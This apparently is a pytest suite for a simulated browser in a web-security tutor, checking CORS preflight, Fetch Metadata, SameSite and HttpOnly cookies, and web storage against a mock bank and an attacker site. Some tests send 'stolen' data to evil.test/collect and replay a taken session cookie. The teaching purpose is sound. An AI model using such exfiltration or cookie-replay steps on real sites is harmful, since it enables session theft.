"""The simulated browser against the mock server and the attacker's site.

What a real browser adds to each request (Origin, Sec-Fetch-*, cookies), what it refuses
to send (a failed CORS preflight), what a page script can see, and the events it reports.
Sources: Fetch Living Standard (CORS, Fetch Metadata), RFC 6454 (Origin), RFC 6265bis,
the HTML standard (Web Storage) and the OWASP cheat sheets on CSRF and XSS.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import TypeVar

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import RedirectResponse, Response
from starlette.routing import Route

from tutor.browser.browser import MAX_REDIRECTS, Browser, RedirectLoop
from tutor.browser.events import (
    BrowserEvent,
    CookieRejected,
    CookieRemoved,
    CookieStored,
    Exchange,
    RecordedResponse,
    RequestBlocked,
    ScriptRead,
    StorageWritten,
)
from tutor.browser.fetch_rules import Credentials, preflight_allows
from tutor.browser.network import Network, NetworkError
from tutor.clock import SimulatedClock
from tutor.server import MockServer, ServerConfig
from tutor.server.attacker import AttackerSite
from tutor.server.config import Vulnerabilities

BANK = "https://bank.test"
WWW = "https://www.bank.test"
EVIL = "https://evil.test"
PLAIN = "http://plain.test"
ALICE = {"username": "alice", "password": "wonderland"}
SID = "__Host-sid"
E = TypeVar("E", bound=BrowserEvent)


@dataclass
class Net:
    """A small internet: the bank (also as www.bank.test and http://plain.test) and evil.test."""

    clock: SimulatedClock
    server: MockServer
    attacker: AttackerSite
    network: Network

    def browser(self, name: str = "user") -> Browser:
        return Browser(name, self.network, self.clock)

    def requests(self) -> list[tuple[str, str, int]]:
        """The bank's access log as (method, path, status)."""
        return [(r.method, r.path, r.status) for r in self.server.log.requests()]


def make_net(clock: SimulatedClock, **config: object) -> Net:
    config.setdefault("scrypt_cost", 1024)
    server = MockServer(ServerConfig(**config), clock)  # type: ignore[arg-type]
    attacker = AttackerSite(clock)
    network = Network()
    for host in ("bank.test", "www.bank.test", "plain.test"):
        network.attach(host, server.app)
    network.attach("evil.test", attacker.app)
    return Net(clock, server, attacker, network)


@pytest.fixture
def net(clock: SimulatedClock) -> Net:
    return make_net(clock)


def recorder(browser: Browser) -> list[BrowserEvent]:
    events: list[BrowserEvent] = []
    browser.subscribe(events.append)
    return events


def of_type(events: list[BrowserEvent], kind: type[E]) -> list[E]:
    return [e for e in events if isinstance(e, kind)]


async def log_in(browser: Browser) -> list[Exchange]:
    await browser.navigate(f"{BANK}/")
    return await browser.submit_form("/login", ALICE)


def exchange(result: Exchange | RequestBlocked) -> Exchange:
    assert isinstance(result, Exchange), result
    return result


# --- navigation ------------------------------------------------------------------------


async def test_form_login_follows_303_as_get_and_records_each_hop(net: Net) -> None:
    """RFC 9110 §15.4.4: after a 303 the browser fetches the Location with GET, no body."""
    browser = net.browser()
    hops = await log_in(browser)
    assert [(h.request.method, h.request.url, h.response.status) for h in hops] == [
        ("POST", f"{BANK}/login", 303),
        ("GET", f"{BANK}/profile", 200),
    ]
    assert hops[0].request.body == b"username=alice&password=wonderland"
    assert hops[1].request.body == b""
    assert hops[1].request.header("content-type") is None
    assert hops[1].request.header("cookie") is not None  # the new session cookie went along
    assert browser.location == f"{BANK}/profile"


async def test_unknown_host_is_a_network_error(net: Net) -> None:
    """No server at that name: the browser would show a connection error, not a response."""
    with pytest.raises(NetworkError, match=r"nowhere\.test"):
        await net.browser().navigate("https://nowhere.test/")


async def test_a_redirect_loop_is_cut_off(net: Net) -> None:
    """Browsers give up after a bounded number of redirects (Fetch standard: 20; here 10)."""

    async def again(request: Request) -> Response:
        return RedirectResponse("/loop", status_code=302)

    net.network.attach("loop.test", Starlette(routes=[Route("/loop", again)]))
    browser = net.browser()
    events = recorder(browser)
    with pytest.raises(RedirectLoop, match=r"loop\.test/loop"):
        await browser.navigate("https://loop.test/loop")
    assert len(of_type(events, Exchange)) == MAX_REDIRECTS + 1
    assert browser.location is None


# --- Origin and Fetch Metadata -----------------------------------------------------------


async def test_origin_is_sent_on_post_and_cross_origin_fetch_only(net: Net) -> None:
    """RFC 6454 / Fetch: Origin goes with every POST and every cross-origin fetch, but not
    with a same-origin GET or a navigation; servers use it against CSRF (OWASP)."""
    browser = net.browser()
    [page] = await browser.navigate(f"{BANK}/")
    assert page.request.header("origin") is None
    post = (await browser.submit_form("/login", ALICE))[0]
    assert post.request.header("origin") == BANK
    same = exchange(await browser.fetch("/profile"))
    assert same.request.header("origin") is None
    cross = exchange(await browser.fetch(f"{EVIL}/collect?what=x&value=1", credentials="omit"))
    assert cross.request.header("origin") == BANK


@pytest.mark.parametrize(
    ("page", "target", "expected"),
    [
        (None, f"{BANK}/", "none"),
        (f"{BANK}/", f"{BANK}/profile", "same-origin"),
        (f"{WWW}/", f"{BANK}/profile", "same-site"),
        (f"{EVIL}/", f"{BANK}/profile", "cross-site"),
    ],
)
async def test_sec_fetch_site(net: Net, page: str | None, target: str, expected: str) -> None:
    """Fetch Metadata: Sec-Fetch-Site tells the server where a request came from (none =
    typed by the user); Sec-Fetch-Mode says navigate or cors."""
    browser = net.browser()
    if page is None:
        [sent] = await browser.navigate(target)
        assert sent.request.header("sec-fetch-mode") == "navigate"
    else:
        await browser.navigate(page)
        sent = exchange(await browser.fetch(target))
        assert sent.request.header("sec-fetch-mode") == "cors"
    assert sent.request.header("sec-fetch-site") == expected


async def test_no_fetch_metadata_over_plain_http(net: Net) -> None:
    """Browsers send Sec-Fetch-* only to potentially trustworthy (https) URLs."""
    [sent] = await net.browser().navigate(f"{PLAIN}/")
    assert sent.request.header("sec-fetch-site") is None
    assert sent.request.header("sec-fetch-mode") is None


# --- fetch: credentials modes and CORS -----------------------------------------------------


@pytest.mark.parametrize(
    ("page", "credentials", "sends_cookie"),
    [
        (BANK, "omit", False),
        (BANK, "same-origin", True),
        (BANK, "include", True),
        (WWW, "omit", False),
        (WWW, "same-origin", False),  # same-site but another origin
        (WWW, "include", True),
    ],
)
async def test_fetch_credentials_modes(
    net: Net, page: str, credentials: Credentials, sends_cookie: bool
) -> None:
    """Fetch `credentials`: omit never sends cookies, same-origin (the default) only to the
    page's own origin, include to any origin the jar allows."""
    browser = net.browser()
    await log_in(browser)
    await browser.navigate(f"{page}/")
    sent = exchange(await browser.fetch(f"{BANK}/profile", credentials=credentials))
    assert (sent.request.header("cookie") is not None) == sends_cookie
    assert sent.response.status == (200 if sends_cookie else 401)
    if not sends_cookie:
        assert sent.cookies_sent == ()  # the jar was not even asked


@pytest.mark.parametrize(
    ("headers", "json_body"),
    [({"X-CSRF-Token": "guess"}, None), ({}, {"username": "alice"})],
    ids=["custom-header", "json"],
)
async def test_failed_preflight_means_the_request_is_never_sent(
    net: Net, headers: dict[str, str], json_body: object
) -> None:
    """CORS: a cross-origin request with a custom header or a JSON body is not "simple", so
    the browser asks first (OPTIONS); the bank does not allow it, so the POST never leaves.
    This is why custom-header CSRF defences work (OWASP CSRF Prevention Cheat Sheet)."""
    browser = net.browser()
    await browser.navigate(f"{EVIL}/")
    events = recorder(browser)
    result = await browser.fetch(f"{BANK}/logout", "POST", headers=headers, json=json_body,
                                 credentials="include")
    assert isinstance(result, RequestBlocked)
    assert result.method == "POST"
    assert "preflight" in result.reason
    [preflight] = of_type(events, Exchange)
    assert preflight.request.method == "OPTIONS"
    assert preflight.request.header("access-control-request-method") == "POST"
    assert preflight.request.header("cookie") is None
    assert of_type(events, RequestBlocked) == [result]
    # The bank saw the question (and refused it), never the POST itself.
    assert net.requests() == [("OPTIONS", "/logout", 405)]


async def test_preflight_names_the_non_simple_headers(net: Net) -> None:
    """Access-Control-Request-Headers lists the headers the page wants to add."""
    browser = net.browser()
    await browser.navigate(f"{EVIL}/")
    events = recorder(browser)
    await browser.fetch(f"{BANK}/profile", headers={"X-CSRF-Token": "t", "Accept": "*/*"})
    [preflight] = of_type(events, Exchange)
    assert preflight.request.header("access-control-request-headers") == "x-csrf-token"


async def test_allowed_preflight_lets_the_request_through(net: Net) -> None:
    """When the other origin answers the preflight with Access-Control-Allow-Origin, the
    real request follows (the attacker's drop box allows every origin on purpose)."""
    browser = net.browser()
    await browser.navigate(f"{BANK}/")
    result = exchange(await browser.fetch(f"{EVIL}/collect?what=token", "POST",
                                          json={"stolen": 1}, credentials="omit"))
    assert result.request.method == "POST"
    assert result.readable_by_script
    assert [(loot.what, loot.value) for loot in net.attacker.loot] == [("token", '{"stolen": 1}')]


async def test_simple_cross_origin_post_is_sent_but_unreadable(clock: SimulatedClock) -> None:
    """CORS protects the response, not the server: a simple cross-site POST arrives and is
    acted on; only the page's script is denied the answer (OWASP CSRF Prevention)."""
    net = make_net(clock, vulnerabilities=Vulnerabilities(samesite_none=True,
                                                          no_csrf_check=True))
    browser = net.browser()
    await log_in(browser)
    await browser.navigate(f"{EVIL}/")
    events = recorder(browser)
    result = exchange(await browser.fetch(
        f"{BANK}/logout", "POST", body="x=1",
        headers={"Content-Type": "application/x-www-form-urlencoded"}, credentials="include",
    ))
    # A form-encoded logout answers 303, and fetch() follows the redirect to the page.
    assert ("POST", "/logout", 303) in net.requests()
    assert net.server.store.authenticated_sessions() == []
    seen = of_type(events, Exchange)
    assert [e.response.status for e in seen] == [303, 200]
    assert seen[-1] == result  # listeners see the same verdict the script gets
    assert all(e.readable_by_script is False for e in seen)
    assert result.notes and "cannot read" in result.notes[0]


# --- cookies: events, scripts, raw requests ------------------------------------------------


async def test_cookie_events_stored_replaced_and_deleted_by_server(net: Net) -> None:
    """Set-Cookie stores (or replaces) a cookie; logout's Max-Age=0 deletes it (RFC 6265bis
    §5.7 step 22)."""
    browser = net.browser()
    events = recorder(browser)
    await log_in(browser)
    stored = of_type(events, CookieStored)
    # The first page opened an anonymous session; login rotated it (a new value, same key).
    assert [(e.cookie.name, e.replaced) for e in stored] == [(SID, False), (SID, True)]
    assert stored[0].cookie.value != stored[1].cookie.value
    assert stored[1].cookie.http_only and stored[1].cookie.same_site == "Lax"
    csrf = json.loads(exchange(await browser.fetch("/profile")).response.body)["csrf_token"]
    events.clear()
    logout = exchange(await browser.fetch("/logout", "POST", headers={"X-CSRF-Token": csrf}))
    assert logout.response.status == 200
    [removed] = of_type(events, CookieRemoved)
    assert (removed.cookie.name, removed.reason) == (SID, "deleted-by-server")
    assert browser.jar.cookies() == []


async def test_cookie_rejected_from_a_cross_site_fetch_response(net: Net) -> None:
    """RFC 6265bis §5.7: a SameSite=Lax cookie set by a cross-site fetch's response is
    ignored, so a third-party page cannot plant a same-site cookie."""
    browser = net.browser()
    await browser.navigate(f"{EVIL}/")
    events = recorder(browser)
    result = exchange(await browser.fetch(f"{BANK}/", credentials="include"))
    [rejected] = of_type(events, CookieRejected)
    assert rejected.name == SID
    assert "cross-site fetch" in rejected.reason
    assert [d.stored for d in result.cookies_stored] == [False]
    assert browser.jar.cookies() == []


async def test_expired_cookies_are_removed_with_an_event(clock: SimulatedClock) -> None:
    """Max-Age counts on the (simulated) clock; at expiry the jar drops the cookie."""
    net = make_net(clock, mode="signed-cookie")
    browser = net.browser()
    await log_in(browser)
    events = recorder(browser)
    clock.advance(3_599)
    browser.expire_cookies()
    assert of_type(events, CookieRemoved) == []
    clock.advance(1)
    browser.expire_cookies()
    [removed] = of_type(events, CookieRemoved)
    assert (removed.cookie.name, removed.reason) == ("__Host-session", "expired")


async def test_clear_site_cookies_emits_cookie_removed(net: Net) -> None:
    """"Clear cookies for this site" drops that site's cookies only."""
    browser = net.browser()
    await log_in(browser)
    await browser.navigate(f"{EVIL}/")
    browser.script().set_cookie("evil=1; Path=/")
    events = recorder(browser)
    browser.clear_site_cookies(BANK)
    [removed] = of_type(events, CookieRemoved)
    assert (removed.cookie.name, removed.reason) == (SID, "cleared-by-user")
    assert [c.name for c in browser.jar.cookies()] == ["evil"]


async def test_document_cookie_hides_httponly_and_reports_the_read(net: Net) -> None:
    """HttpOnly keeps a cookie out of `document.cookie`, so injected script cannot read it
    (RFC 6265bis §4.1.2.6; OWASP XSS Prevention)."""
    browser = net.browser()
    await log_in(browser)
    script = browser.script()
    assert script.set_cookie("theme=dark; Path=/").stored
    events = recorder(browser)
    assert script.document_cookie() == "theme=dark"
    [read] = of_type(events, ScriptRead)
    assert (read.origin, read.what, read.value) == (BANK, "document.cookie", "theme=dark")
    assert SID in {c.name for c in browser.jar.cookies()}


async def test_without_httponly_the_session_cookie_is_visible(clock: SimulatedClock) -> None:
    """The no_httponly weakness: the same read now returns the session id."""
    net = make_net(clock, vulnerabilities=Vulnerabilities(no_httponly=True))
    browser = net.browser()
    await log_in(browser)
    assert browser.script().document_cookie().startswith(f"{SID}=")


async def test_script_cannot_overwrite_an_httponly_cookie(net: Net) -> None:
    """RFC 6265bis §5.7 step 15: a non-HTTP API may not replace an HttpOnly cookie."""
    browser = net.browser()
    await log_in(browser)
    [before] = browser.jar.cookies()
    events = recorder(browser)
    decision = browser.script().set_cookie(f"{SID}=attacker; Secure; Path=/")
    assert not decision.stored
    assert "HttpOnly" in decision.reason
    [rejected] = of_type(events, CookieRejected)
    assert rejected.name == SID
    assert browser.jar.cookies() == [before]


async def test_script_without_a_page_is_refused(net: Net) -> None:
    """Scripts run in a page; before any navigation there is none."""
    with pytest.raises(ValueError, match="no page"):
        net.browser().script()


async def test_send_raw_sends_exactly_the_given_headers(net: Net) -> None:
    """A hand-made request (curl) carries only what you type: no jar, no Origin, no
    Sec-Fetch-*; it is how a stolen credential is replayed."""
    browser = net.browser()
    await log_in(browser)
    events = recorder(browser)
    sent = await browser.send_raw("post", f"{BANK}/profile", {"X-Test": "1"})
    assert sent.request.method == "POST"
    names = {name.lower() for name, _ in sent.request.headers}
    assert names - {"host", "content-length"} == {"x-test"}  # framing headers aside
    assert sent.cookies_sent == ()
    assert of_type(events, Exchange) == [sent]
    stolen = next(c for c in browser.jar.cookies() if c.name == SID)
    replayed = await browser.send_raw("GET", f"{BANK}/profile",
                                      {"Cookie": f"{SID}={stolen.value}"})
    assert replayed.response.status == 200


async def test_send_raw_does_not_store_response_cookies(net: Net) -> None:
    """curl without a cookie file keeps nothing from Set-Cookie."""
    browser = net.browser()
    sent = await browser.send_raw("GET", f"{BANK}/", {})
    assert sent.response.header("set-cookie") is not None
    assert browser.jar.cookies() == []


async def test_two_browsers_have_independent_jars(net: Net) -> None:
    """The victim's cookies are in the victim's browser: the attacker's starts empty."""
    victim, attacker = net.browser("victim"), net.browser("attacker")
    await log_in(victim)
    [page] = await attacker.navigate(f"{BANK}/profile")
    assert page.response.status == 401
    assert page.request.header("cookie") is None
    assert [c.name for c in victim.jar.cookies()] == [SID]


# --- web storage, restart, snapshots -----------------------------------------------------


async def test_storage_is_per_origin_and_writes_are_reported(net: Net) -> None:
    """Web Storage is keyed by origin: bank.test's script cannot see www.bank.test's."""
    browser = net.browser()
    events = recorder(browser)
    await browser.navigate(f"{BANK}/")
    browser.script().set_item("token", "abc")
    await browser.navigate(f"{WWW}/")
    www = browser.script()
    assert www.storage() == {}
    www.set_item("token", "other", area="sessionStorage")
    assert browser.storage("localStorage", BANK) == {"token": "abc"}
    assert browser.storage("sessionStorage", WWW) == {"token": "other"}
    written = of_type(events, StorageWritten)
    assert [(w.area, w.origin, w.key, w.value) for w in written] == [
        ("localStorage", BANK, "token", "abc"),
        ("sessionStorage", WWW, "token", "other"),
    ]
    events.clear()
    www.remove_item("missing")
    assert of_type(events, StorageWritten) == []  # nothing removed, nothing reported
    browser.store("localStorage", BANK, "token", None)
    [removed] = of_type(events, StorageWritten)
    assert (removed.key, removed.value) == ("token", None)


async def test_restart_clears_session_state_but_not_local_storage(net: Net) -> None:
    """Closing the browser ends session cookies and sessionStorage; localStorage and
    persistent cookies survive (RFC 6265bis §5.7; HTML Web Storage). A JWT in
    localStorage therefore outlives the browser session."""
    browser = net.browser()
    await log_in(browser)
    script = browser.script()
    script.set_cookie("remember=1; Path=/; Max-Age=3600")
    script.set_item("access_token", "jwt")
    script.set_item("tab", "1", area="sessionStorage")
    events = recorder(browser)
    browser.restart()
    assert [(e.cookie.name, e.reason) for e in of_type(events, CookieRemoved)] == [
        (SID, "browser-restart")
    ]
    assert [c.name for c in browser.jar.cookies()] == ["remember"]
    assert browser.storage("localStorage", BANK) == {"access_token": "jwt"}
    assert browser.storage("sessionStorage", BANK) == {}


async def test_snapshot_and_restore_are_exact(net: Net) -> None:
    """A snapshot brings back the jar, storage and page exactly, and is not aliased."""
    browser = net.browser()
    await log_in(browser)
    browser.script().set_item("k", "v")
    before = (browser.jar.cookies(), copy.deepcopy(browser.local_storage), browser.location)
    snapshot = browser.snapshot()
    browser.restart()
    browser.store("localStorage", BANK, "k", "changed")
    await browser.navigate(f"{EVIL}/")
    browser.restore(snapshot)
    assert (browser.jar.cookies(), browser.local_storage, browser.location) == before
    browser.store("localStorage", BANK, "k", "again")  # must not leak into the snapshot
    browser.restore(snapshot)
    assert browser.local_storage == {BANK: {"k": "v"}}
    assert browser.location == f"{BANK}/profile"


def _preflight_response(**headers: str) -> RecordedResponse:
    return RecordedResponse(204, tuple((k.lower().replace("_", "-"), v)
                                       for k, v in headers.items()))


@pytest.mark.parametrize(
    ("headers", "credentials", "method", "asked", "allowed"),
    [
        ({"access_control_allow_origin": "*"}, "omit", "POST", ["x-csrf-token"], False),
        ({"access_control_allow_origin": "*", "access_control_allow_headers": "*"}, "omit",
         "POST", ["x-csrf-token"], True),
        ({"access_control_allow_origin": "*", "access_control_allow_headers": "*"},
         "include", "POST", ["x-csrf-token"], False),
        ({"access_control_allow_origin": "https://evil.test",
          "access_control_allow_credentials": "true",
          "access_control_allow_headers": "X-CSRF-Token"}, "include", "POST",
         ["x-csrf-token"], True),
        ({"access_control_allow_origin": "https://evil.test"}, "omit", "DELETE", [], False),
        ({"access_control_allow_origin": "https://evil.test",
          "access_control_allow_methods": "DELETE"}, "omit", "DELETE", [], True),
    ],
)
def test_preflight_needs_origin_credentials_method_and_headers_allowed(
    headers: dict[str, str], credentials: Credentials, method: str, asked: list[str],
    allowed: bool,
) -> None:
    """Fetch standard, CORS-preflight fetch: "*" never covers credentialed requests."""
    response = _preflight_response(**headers)
    assert preflight_allows(response, "https://evil.test", credentials, method, asked) is allowed


async def test_scripts_cannot_set_forbidden_headers(net: Net) -> None:
    """Fetch standard: Cookie, Origin, Host and Sec-* are the browser's to set, not the page's."""
    browser = net.browser()
    await browser.navigate(f"{BANK}/")
    result = exchange(await browser.fetch(f"{BANK}/profile", headers={
        "Cookie": "__Host-sid=forged", "Origin": "https://bank.test", "Sec-Fetch-Site": "none",
        "X-Custom": "kept",
    }))
    assert result.request.header("x-custom") == "kept"
    assert "forged" not in (result.request.header("cookie") or "")
    assert result.request.header("sec-fetch-site") == "same-origin"


def test_a_domain_cookie_beside_a_host_only_one_is_stored_not_replaced(net: Net) -> None:
    """Same name, domain field and path, but one host-only and one `Domain=`: two cookies
    (§5.7 step 23), so the second is reported stored, as a cookie tossed in from a
    subdomain is, and both are kept."""
    browser = net.browser()
    events = recorder(browser)
    browser.receive_cookie_from(f"{BANK}/", "csrf=own; Path=/; Secure")
    browser.receive_cookie_from("https://www.bank.test/",
                                "csrf=planted; Domain=bank.test; Path=/; Secure")
    browser.receive_cookie_from(f"{BANK}/", "csrf=own2; Path=/; Secure")
    assert [e.replaced for e in of_type(events, CookieStored)] == [False, False, True]
    assert sorted(c.value for c in browser.jar.cookies()) == ["own2", "planted"]
